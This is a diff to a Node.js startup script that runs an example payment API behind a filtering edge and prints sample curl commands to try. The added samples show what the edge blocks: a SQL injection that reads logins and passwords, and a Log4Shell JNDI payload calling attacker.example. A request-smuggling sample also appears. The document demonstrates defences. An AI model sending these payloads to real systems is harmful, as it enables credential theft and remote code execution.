@@ -1,4 +1,4 @@
-/** `npm start`: the example API on a loopback port, the edge in front of it by its own public entry, and three commands to try.
+/** `npm start`: the example API on a loopback port, the edge in front of it by its own public entry, and commands to try.
  *  Flags: `--listen HOST:PORT` (127.0.0.1:8443), `--data DIR` (data/ of the checkout). Ctrl-C or SIGTERM stops both. */
 import { type ChildProcessByStdio, spawn } from 'node:child_process'
 import { once } from 'node:events'
@@ -63,6 +63,12 @@ ${curl} ${url}/api/payment_orders
 
 # allowed: a payment order of 125.00 EUR
 ${curl} ${url}/api/payment_orders -H 'Content-Type: application/json' -H 'Idempotency-Key: first' -d '${order}'
+
+# refused with 403 by the built-in rules, never sent on: SQL injection in the query
+${curl} '${url}/api/payment_orders?status=paid%27%20UNION%20SELECT%20login,password%20FROM%20users--%20-'
+
+# refused with 403 too: Log4Shell in a JSON body
+${curl} ${url}/api/payment_orders -H 'Content-Type: application/json' -d '{"memo":"$\{jndi:ldap://attacker.example/a}"}'
 
 # refused with 400, never sent on: two lengths for one body, the start of a request smuggling attack
 ${curl} ${url}/api/payment_orders -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' -d 'GET '
